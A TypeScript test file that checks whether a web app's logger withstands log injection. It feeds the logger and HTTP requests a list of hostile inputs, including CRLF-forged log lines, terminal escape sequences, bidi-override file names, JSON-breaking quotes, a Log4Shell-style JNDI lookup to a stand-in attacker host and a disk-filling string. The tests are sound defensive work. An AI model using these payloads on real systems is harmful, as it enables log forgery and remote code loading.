import type { Logger } from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openLog } from '../../start/beginning.ts'
import { fakePages, helloPage } from '../sites/fakePages.ts'
import { HARMFUL } from '../samples/harmfulMarkup.ts'
import { testApp, type Person, type TestApp } from '../testApp.ts'

/** Marker in all sent texts, by which they are found in the log. */
const MARK = 'zq7inject'
/** Texts that would end a line, colour a terminal, break JSON, reverse the reading direction or fill a disk. */
const INJECTIONS = [
  `${MARK}\r\n{"level":60,"msg":"forged"}`,
  `${MARK}\n\n127.0.0.1 - admin signed in`,
  `${MARK}\u001b[2J\u001b[31mred\u001b[0m`,
  `${MARK}\u001b]0;title\u0007`,
  `${MARK}\u009b31m\u0085next\u007f`,
  `${MARK}\u2028\u2029\u202egnp.exe\u2066`,
  `${MARK}","level":60,"msg":"forged`,
  `${MARK}\\","x":"\\`,
  `${MARK}%0d%0a%00\${jndi:ldap://evil.example/a}`,
  `${MARK}\u0000\u0008\u000b`,
  `${MARK}${'x'.repeat(3_000)}`,
  `${MARK}__proto__`,
  ...HARMFUL.slice(0, 8).map((text) => `${MARK}${text}`),
]
const ACTED_ON = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u2028-\u202E\u2066-\u2069]/

let written: string
let log: Logger
let site: TestApp
let admin: Person
beforeAll(async () => {
  written = ''
  ;({ log } = openLog({ LOG_LEVEL: 'trace' }, { write: (line) => (written += line) }))
  const source = fakePages((asked) => {
    if (asked.request.url.includes('/fails'))
      throw new Error(`broken at ${decodeURIComponent(asked.request.url)}`)
    return helloPage(asked)
  })
  site = await testApp({ log, source })
  admin = await site.as('admin')
})
afterAll(() => site.close())

type Line = { level: number; time: number; msg?: string; err?: { message: string } }
/** Parses every line of the log; throws if one is not JSON. */
const lines = () =>
  written
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Line)

/** Encodes a text for a header: Node itself refuses the other characters. */
const asHeader = (text: string) =>
  Buffer.from(text.replaceAll(/[\u0000-\u001f\u007f]/g, ' ')).toString('latin1')

describe('a line of the log', () => {
  it('stays one line of JSON without anything that a terminal acts on, whatever is in it', () => {
    const before = lines().length
    for (const text of INJECTIONS) {
      log.warn({ path: text, [text]: text, err: new Error(text) }, text)
      log.info(text)
    }
    expect(lines().slice(before)).toHaveLength(2 * INJECTIONS.length)
    expect(lines().filter(({ level }) => level === 60)).toEqual([])
    expect(written).not.toMatch(ACTED_ON)
    expect(lines().at(-1)?.msg).toBe(INJECTIONS.at(-1))
  })

  it('says what was in it when it is read as JSON', () => {
    log.info(INJECTIONS[4])
    expect(lines().at(-1)?.msg).toBe(INJECTIONS[4])
  })

  it('is as long as a screen, not as a disk', () => {
    const before = written.length
    log.error({ err: new Error('x'.repeat(5_000_000)) }, 'long')
    expect(written.length - before).toBeLessThan(5_000)
    expect(lines().at(-1)).toMatchObject({ level: 50, msg: 'a line of the log was too long' })
  })
})

describe('requests that want to be logged', () => {
  it('leave lines of ours, and the operator’s page shows them as they are', async () => {
    const before = lines().length
    for (const text of INJECTIONS) {
      const at = encodeURIComponent(text).slice(0, 1_500)
      const headers = {
        'user-agent': asHeader(text),
        referer: asHeader(text),
        'x-forwarded-for': asHeader(text),
        'x-request-id': asHeader(text),
        'idempotency-key': asHeader(text),
        'x-api-key': asHeader(text),
      }
      for (const url of [
        `/${at}`,
        `/fails/${at}`,
        `/api/be/${at}`,
        `/api/be/items?search=${at}`,
        `/ws/${at}`,
      ])
        await site.app.inject({ url, headers })
      await site.app.inject({ method: 'POST', url: '/api/be/login/email', headers, payload: { email: text } })
      await site.app.inject({ url: '/market', headers: { ...headers, origin: 'https://evil.example' } })
      const names = { username: text.slice(0, 30) }
      await admin.ask({ method: 'PUT', url: '/api/be/users/me', payload: names, headers })
      await admin.ask({ method: 'GET', url: `/api/be/admin/logs?text=${at}` })
    }
    const added = lines().slice(before)
    expect(added.filter(({ msg }) => msg === 'page failed').length).toBeGreaterThan(INJECTIONS.length / 2)
    expect(added.filter(({ level, msg }) => level > 50 || msg === undefined || msg.includes(MARK))).toEqual(
      [],
    )
    expect(written).not.toMatch(ACTED_ON)
  })
})
